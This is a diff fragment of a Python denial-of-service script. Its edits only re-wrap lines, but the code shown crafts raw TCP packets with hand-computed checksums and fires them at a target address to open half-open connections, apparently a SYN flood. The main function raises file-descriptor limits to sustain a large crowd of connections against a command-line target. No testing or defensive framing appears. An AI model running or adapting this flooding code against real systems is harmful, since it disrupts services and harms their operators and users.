@@ -32,7 +32,8 @@ def half_open(address, port, n, rng):
                           2, 65535, 0, 0)
         pseudo = source + to + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
         tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
-        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0, source, to)
+        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64,
+                           socket.IPPROTO_TCP, 0, source, to)
         raw.sendto(head + tcp, (address, 0))
     raw.close()
 
@@ -89,7 +90,8 @@ class Crowd:
 def main():
     address, port, n, seed = sys.argv[1], *map(int, sys.argv[2:5])
     rng = random.Random(seed)
-    resource.setrlimit(resource.RLIMIT_NOFILE, (n + 64, max(n + 64, resource.getrlimit(resource.RLIMIT_NOFILE)[1])))
+    most = max(n + 64, resource.getrlimit(resource.RLIMIT_NOFILE)[1])
+    resource.setrlimit(resource.RLIMIT_NOFILE, (n + 64, most))
     crowd, told, dripped = Crowd(address, port, rng), False, time.monotonic()
     half_open(address, port, n // 4, rng)
     while True:
